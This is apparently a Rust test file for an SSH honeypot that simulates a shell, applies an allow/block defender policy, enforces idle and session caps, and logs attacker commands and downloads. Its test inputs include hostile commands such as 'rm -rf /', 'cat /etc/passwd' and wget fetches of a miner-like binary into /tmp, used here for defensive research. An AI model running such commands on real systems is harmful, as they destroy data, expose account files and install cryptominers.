use std::sync::Arc;
use std::time::Duration;

use super::*;
use crate::clock::{Clock, ManualClock};
use crate::game::DefenderAction;
use crate::log::{sessions_from_events, MemorySink, COMMAND_INPUT, DOWNLOAD};
use crate::policy::PolicyConfig;

struct Rig {
    clock: Arc<ManualClock>,
    sink: Arc<MemorySink>,
    hp: Honeypot,
}

fn rig(policy: PolicyConfig) -> Rig {
    let clock = Arc::new(ManualClock::epoch());
    let sink = Arc::new(MemorySink::new());
    let hp = Honeypot::builder(Policy::load(policy.with_seed(11)).unwrap(), sink.clone(), clock.clone())
        .id_seed(1)
        .build()
        .unwrap();
    Rig { clock, sink, hp }
}

fn control() -> Rig {
    rig(PolicyConfig::control())
}

#[test]
fn open_logs_connect_and_login() {
    let r = control();
    let t = r.clock.now();
    let a = r.hp.open_session("jmiller", "192.0.2.9");
    assert_eq!(r.sink.len(), 2);
    assert_eq!(a.start_time(), t);
    let b = r.hp.open_session("jmiller", "192.0.2.9");
    assert_ne!(a.id(), b.id());
    assert_eq!(a.id().len(), 32);
    assert!(a.id().chars().all(|c| c.is_ascii_hexdigit()));
}

#[test]
fn blank_lines_are_not_commands() {
    let r = control();
    let mut s = r.hp.open_session("jmiller", "192.0.2.9");
    let out = s.handle_line("").unwrap();
    assert!(out.decision.is_none() && !out.session_terminated && out.output.is_empty());
    assert_eq!(s.command_count(), 0);
    s.handle_line("ls").unwrap();
    s.handle_line("   ").unwrap();
    assert_eq!(s.command_count(), 1);
    let inputs = r.sink.events().iter().filter(|e| e.eventid == COMMAND_INPUT).count();
    assert_eq!(inputs, 3);
}

#[test]
fn ls_under_control() {
    let r = control();
    let mut s = r.hp.open_session("jmiller", "192.0.2.9");
    let out = s.handle_line("ls").unwrap();
    assert_eq!(out.decision.unwrap().action, DefenderAction::Allow);
    assert!(out.output.contains("work") && out.output.contains("private"));
    assert_eq!(s.handle_line("pwd").unwrap().output, "/home/jmiller\n");
}

#[test]
fn rm_rf_root_leaves_fs_alone() {
    let r = control();
    let mut s = r.hp.open_session("jmiller", "192.0.2.9");
    let before = s.fs().clone();
    let out = s.handle_line("rm -rf /").unwrap();
    assert!(out.output.contains("Permission denied"));
    assert_eq!(s.fs(), &before);
}

#[test]
fn block_message_shape() {
    let r = rig(PolicyConfig::new("block", 0.0, 1.0, 0.0).unwrap());
    let mut s = r.hp.open_session("jmiller", "192.0.2.9");
    let out = s.handle_line("uname -a").unwrap();
    let d = out.decision.unwrap();
    assert_eq!(d.action, DefenderAction::Block);
    let errno = d.message.unwrap();
    assert_eq!(out.output, format!("bash: uname: {}\n", crate::policy::errno_description(&errno)));
    assert!(out.side_effects.is_empty());
}

#[test]
fn exit_bypasses_policy() {
    let r = rig(PolicyConfig::new("block", 0.0, 1.0, 0.0).unwrap());
    let mut s = r.hp.open_session("jmiller", "192.0.2.9");
    let out = s.handle_line("exit").unwrap();
    assert!(out.session_terminated && out.decision.is_none());
    assert_eq!(s.summary().unwrap().close_reason.as_deref(), Some("client-exit"));
    assert_eq!(s.handle_line("ls"), Err(SessionError::Closed));
    assert_eq!(s.close(CloseReason::Error), Err(SessionError::Closed));
}

#[test]
fn close_duration_is_exact() {
    let r = control();
    let mut s = r.hp.open_session("jmiller", "192.0.2.9");
    r.clock.advance(Duration::from_millis(118_787));
    let summary = s.close(CloseReason::ClientExit).unwrap();
    assert_eq!(summary.duration_seconds, 118.787);
    let agg = sessions_from_events(&r.sink.events());
    assert_eq!(agg.summaries[0].duration_seconds, 118.787);
}

#[test]
fn idle_timeout_closes_at_deadline() {
    let r = control();
    let mut s = r.hp.open_session("jmiller", "192.0.2.9");
    s.handle_line("id").unwrap();
    r.clock.advance(Duration::from_secs(179));
    assert!(s.poll().is_none());
    r.clock.advance(Duration::from_secs(30));
    let summary = s.poll().unwrap();
    assert_eq!(summary.close_reason.as_deref(), Some("timeout"));
    assert_eq!(summary.duration_seconds, 180.0);
}

#[test]
fn late_input_after_idle_is_refused() {
    let r = control();
    let mut s = r.hp.open_session("jmiller", "192.0.2.9");
    r.clock.advance(Duration::from_secs(500));
    let out = s.handle_line("ls").unwrap();
    assert!(out.session_terminated);
    assert_eq!(out.output, IDLE_MESSAGE);
    assert_eq!(s.command_count(), 0);
    assert_eq!(s.summary().unwrap().duration_seconds, 180.0);
}

#[test]
fn cap_lets_inflight_command_finish() {
    let r = control();
    let mut s = r.hp.open_session("jmiller", "192.0.2.9");
    for _ in 0..9 {
        r.clock.advance(Duration::from_secs(99));
        s.handle_line("pwd").unwrap();
    }
    // 891 s in: apt runs for 9 s and ends exactly at the cap, the next
    // download starts after it
    s.handle_line("apt update").unwrap();
    assert_eq!(crate::clock::seconds_between(s.start_time(), s.last_activity()), 900.0);
    let out = s.handle_line("ls").unwrap();
    assert!(out.session_terminated);
    assert_eq!(s.summary().unwrap().close_reason.as_deref(), Some("cap"));
    assert_eq!(s.summary().unwrap().duration_seconds, 900.0);

    let mut s = r.hp.open_session("jmiller", "192.0.2.9");
    for _ in 0..8 {
        r.clock.advance(Duration::from_secs(100));
        s.handle_line("").unwrap();
    }
    r.clock.advance(Duration::from_secs(99));
    s.handle_line("wget http://203.0.113.5/a; wget http://203.0.113.5/b; apt install x; apt install y; apt install z; apt install w; apt install v; apt install u").unwrap();
    let summary = s.poll().unwrap();
    assert_eq!(summary.close_reason.as_deref(), Some("cap"));
    assert!(summary.duration_seconds > 900.0 && summary.duration_seconds <= 960.0, "{summary:?}");
}

#[test]
fn downloads_are_logged() {
    let r = control();
    let mut s = r.hp.open_session("jmiller", "192.0.2.9");
    s.handle_line("wget https://www.lukminer.net/download/luk-cpu -O /tmp/luk").unwrap();
    let downloads: Vec<_> = r.sink.events().into_iter().filter(|e| e.eventid == DOWNLOAD).collect();
    assert_eq!(downloads.len(), 1);
    assert_eq!(downloads[0].url.as_deref(), Some("https://www.lukminer.net/download/luk-cpu"));
    assert_eq!(downloads[0].outfile.as_deref(), Some("/tmp/luk"));
}

#[test]
fn sessions_do_not_share_filesystems() {
    let r = control();
    let mut a = r.hp.open_session("jmiller", "192.0.2.1");
    let mut b = r.hp.open_session("jmiller", "192.0.2.2");
    a.handle_line("touch mine").unwrap();
    assert!(a.handle_line("ls").unwrap().output.contains("mine"));
    assert!(!b.handle_line("ls").unwrap().output.contains("mine"));
}

#[test]
fn unauthenticated_connection_logs_close() {
    let r = control();
    let c = r.hp.connect("203.0.113.200");
    c.login_failed("root", "123456");
    let summary = c.close(CloseReason::ClientExit);
    assert!(!summary.login_success);
    let ids: Vec<String> = r.sink.events().iter().map(|e| e.eventid.clone()).collect();
    assert_eq!(ids, vec!["hp.session.connect", "hp.login.failed", "hp.session.closed"]);
}

#[test]
fn replay_is_deterministic() {
    let lines = ["ls", "cat /etc/passwd", "wget http://x.example/m", "", "cd work", "rm -rf /", "uname -a", "exit"];
    let run = || {
        let r = rig(PolicyConfig::gamepot());
        let mut s = r.hp.open_session("jmiller", "192.0.2.9");
        let mut outs = Vec::new();
        for l in lines {
            r.clock.advance(Duration::from_secs(3));
            outs.push(s.handle_line(l).unwrap());
        }
        (outs, r.sink.events())
    };
    assert_eq!(run(), run());
}

#[test]
fn prompt_tracks_directory() {
    let r = control();
    let mut s = r.hp.open_session("jmiller", "192.0.2.9");
    assert_eq!(s.prompt(), "jmiller@srv-app01:~$ ");
    s.handle_line("cd /tmp").unwrap();
    assert_eq!(s.prompt(), "jmiller@srv-app01:/tmp$ ");
}
